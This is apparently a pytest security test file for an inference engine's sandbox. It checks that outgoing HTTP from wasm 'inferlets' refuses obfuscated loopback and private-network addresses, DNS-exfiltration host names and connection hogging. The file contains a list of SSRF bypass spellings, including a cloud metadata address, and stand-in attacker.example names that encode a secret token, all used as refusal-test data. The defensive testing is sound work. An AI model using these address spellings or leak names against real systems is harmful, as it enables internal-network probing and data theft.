"""Attacks through an inferlet's outgoing HTTP: host names the HTTP library cannot take, every
spelling of this host and the private networks, names made up to leak data through DNS, and
one inferlet holding every pooled connection. Each is refused with its own clear error, and a
good inferlet's request is served correctly afterwards."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import trio

from pie.config import EngineConfig, with_overrides
from pie.drivers.synthetic import SyntheticDriver
from pie.drivers.tokenizer import Tokenizer
from pie.engine import Engine, open_engine
from tests.inferlet_fixtures import build_inferlet as built  # noqa: F401  (fixture)
from tests.model_fixtures import default_model_dir  # noqa: F401  (fixture)
from tests.test_http import LocalServer
from tests.test_http import fetcher_wasm as fetcher_wasm  # noqa: F401  (fixture)
from tests.test_http import server as server  # noqa: F401  (fixture)

pytestmark = pytest.mark.security


@pytest.fixture(scope="module")
def components(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("components")


@pytest.fixture
def looked_up(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every name the engine asks the resolver for; no name resolves."""
    names: list[str] = []

    async def resolver(host: Any, *args: Any, **kwargs: Any) -> Any:
        names.append(host)
        raise OSError("no resolver in this test")

    monkeypatch.setattr(trio.socket, "getaddrinfo", resolver)
    return names


class _Fetcher:
    def __init__(self, engine: Engine, program: str) -> None:
        self.engine = engine
        self.program = program

    async def run(self, *requests: dict[str, Any], parallel: bool = False) -> list[Any]:
        input = json.dumps({"requests": list(requests), "parallel": parallel})
        outcome = await self.engine.run_inferlet(self.program, input)
        assert outcome.ok, outcome.error
        return list(json.loads(outcome.result or "null"))


@asynccontextmanager
async def _engine(
    tokenizer: Tokenizer, wasm: bytes, components: Path, **network: Any
) -> AsyncIterator[_Fetcher]:
    config = with_overrides(
        EngineConfig(),
        sandbox={"cache_dir": str(components)},
        network={"timeout_seconds": 5.0, **network},
    )
    driver = SyntheticDriver(vocab_size=tokenizer.vocab_size)
    async with open_engine(config, driver=driver, tokenizer=tokenizer) as engine:
        yield _Fetcher(engine, engine.programs.add(wasm, name="fetcher").hash)


async def test_an_international_host_name_cannot_stop_the_engine(
    server: LocalServer,  # noqa: F811
    fetcher_wasm: bytes,  # noqa: F811
    tokenizer: Tokenizer,
    components: Path,
    looked_up: list[str],
) -> None:
    async with _engine(tokenizer, fetcher_wasm, components, allow=("127.0.0.1",)) as fetcher:
        with trio.fail_after(60):
            attack = await fetcher.run(
                {"url": "http://éxample.com/"},
                {"url": "http://" + "é" * 70 + ".com/"},
            )
            good = await fetcher.run({"url": f"{server.base}/échó?q=ü"})
    assert attack[0]["error"] == "denied" and "xn--xample-9ua.com" in attack[0]["message"]
    assert attack[1]["error"] == "invalid" and "host name" in attack[1]["message"]
    assert good[0]["status"] == 200
    assert json.loads(good[0]["body"])["path"] == "/%C3%A9ch%C3%B3?q=%C3%BC"
    assert looked_up == []


async def test_no_spelling_of_this_host_or_a_private_network_gets_past_the_policy(
    server: LocalServer,  # noqa: F811
    fetcher_wasm: bytes,  # noqa: F811
    tokenizer: Tokenizer,
    components: Path,
) -> None:
    port = server.base.rsplit(":", 1)[1]
    # The operator opened the public internet and this one local server, nothing else.
    allow = ("127.0.0.1", "0.0.0.0/0", "::/0")
    hosts = [
        "0.0.0.0",
        "0",
        "[::]",
        "[::ffff:0.0.0.0]",
        "127.0.0.2",
        "127.2",
        "2130706434",
        "0x7f.0.0.2",
        "[::1]",
        "[::ffff:127.0.0.2]",
        "[::127.0.0.2]",
        "[64:ff9b::7f00:2]",
        "[2002:7f00:2::]",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "[fc00::1]",
        "224.0.0.1",
        "255.255.255.255",
    ]
    async with _engine(tokenizer, fetcher_wasm, components, allow=allow) as fetcher:
        with trio.fail_after(60):
            attack = await fetcher.run(*({"url": f"http://{h}:{port}/echo"} for h in hosts))
            good = await fetcher.run(
                {"url": f"{server.base}/echo"}, {"url": f"http://0x7f000001:{port}/echo"}
            )
    refused = {host: got.get("error") for host, got in zip(hosts, attack, strict=True)}
    assert refused == dict.fromkeys(hosts, "denied")
    assert [got["status"] for got in good] == [200, 200]
    assert server.hits["/echo"] == 2  # the attack never reached the server


async def test_a_name_made_up_to_leak_data_is_never_looked_up(
    server: LocalServer,  # noqa: F811
    fetcher_wasm: bytes,  # noqa: F811
    tokenizer: Tokenizer,
    components: Path,
    looked_up: list[str],
) -> None:
    async with _engine(tokenizer, fetcher_wasm, components, allow=("127.0.0.1",)) as fetcher:
        with trio.fail_after(60):
            attack = await fetcher.run(
                {"url": "http://c2VjcmV0LXRva2Vu.leak.attacker.example/"},
                {"url": "https://user-data-1234.attacker.example:8443/x"},
            )
            good = await fetcher.run({"url": f"{server.base}/echo"})
    assert [got["error"] for got in attack] == ["denied", "denied"]
    assert looked_up == []
    assert good[0]["status"] == 200


async def test_one_inferlet_cannot_hold_every_pooled_connection(
    server: LocalServer,  # noqa: F811
    fetcher_wasm: bytes,  # noqa: F811
    tokenizer: Tokenizer,
    components: Path,
) -> None:
    network = {"allow": ("127.0.0.1",), "max_connections": 3, "max_fetches_per_inferlet": 2}
    async with _engine(tokenizer, fetcher_wasm, components, **network) as fetcher:
        hog: list[Any] = []

        async def hold_everything() -> None:
            hog.extend(await fetcher.run(*[{"url": f"{server.base}/hold"}] * 4, parallel=True))

        with trio.fail_after(60):
            async with trio.open_nursery() as nursery:
                nursery.start_soon(hold_everything)
                while server.hits["/hold"] < 2:
                    await trio.sleep(0.01)
                good = await fetcher.run({"url": f"{server.base}/echo", "timeout": 3})
                server.release.set()
    assert good[0]["status"] == 200
    assert sorted(got.get("error", "") for got in hog) == ["", "", "busy", "busy"]
    busy = next(got for got in hog if got.get("error"))
    assert "max_fetches_per_inferlet" in busy["message"]
    assert [got.get("body") for got in hog if not got.get("error")] == ["released"] * 2
    assert server.hits["/hold"] == 2
    assert fetcher.engine.statistics().http.running == 0
